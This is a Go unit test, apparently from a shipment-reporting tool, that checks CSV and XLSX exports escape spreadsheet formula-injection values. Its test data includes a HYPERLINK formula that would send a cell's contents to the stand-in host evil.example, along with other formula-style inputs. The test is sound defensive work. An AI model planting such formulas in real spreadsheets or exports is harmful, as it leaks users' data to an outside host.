package report

import (
	"bytes"
	"context"
	"encoding/csv"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"postvakt/internal/store"
)

// TestNoFormulaInjection: text cells that a spreadsheet would run as a
// formula are written behind an apostrophe in CSV and as (text-formatted)
// strings in XLSX; numbers and ordinary text are left alone.
func TestNoFormulaInjection(t *testing.T) {
	now := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"klikk")`, "+47 22 00 00 00", "-2+3", "@SUM(A1:A9)", "\tx=1", "\rcmd"}
	src := rows(len(evil))
	for i, v := range evil {
		src[i].SenderUnit = v
		src[i].RecipientName = v
		src[i].Class = v
	}
	src[0].SentAt = now.Add(72 * time.Hour) // age_days -3: a number, not a formula
	var buf bytes.Buffer
	if _, err := Shipments(context.Background(), src, store.ListFilter{List: store.ListUnopened}, CSV, &buf, now); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := func(name string) int {
		for i, h := range ShipmentHeader {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %s", name)
		return -1
	}
	for i, v := range evil {
		row := got[i+1]
		for _, c := range []string{"sender_unit", "recipient_name", "class"} {
			if want := "'" + v; row[col(c)] != want {
				t.Errorf("CSV row %d %s = %q, want %q", i, c, row[col(c)], want)
			}
		}
	}
	if a := got[1][col("age_days")]; a != "-3" {
		t.Errorf("CSV age_days = %q, want -3 (a number stays a number)", a)
	}

	// The same in the sheet for people (Labels).
	for _, l := range []*Labels{nil, testLabels} {
		buf.Reset()
		if _, err := ShipmentsFor(context.Background(), src, store.ListFilter{List: store.ListUnopened}, XLSX, &buf, now, l); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		sheet := f.GetSheetName(0)
		for i, v := range evil {
			cell, _ := excelize.CoordinatesToCellName(col("sender_unit")+1, i+2)
			if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" {
				t.Errorf("labels %v: XLSX %s is a formula %q (%v)", l != nil, cell, formula, err)
			}
			if typ, err := f.GetCellType(sheet, cell); err != nil || typ != excelize.CellTypeInlineString {
				t.Errorf("labels %v: XLSX %s has type %v (%v), want an inline string", l != nil, cell, typ, err)
			}
			if val, err := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true}); err != nil || val != v {
				t.Errorf("labels %v: XLSX %s = %q (%v), want %q as it is", l != nil, cell, val, err, v)
			}
		}
		f.Close()
	}
}
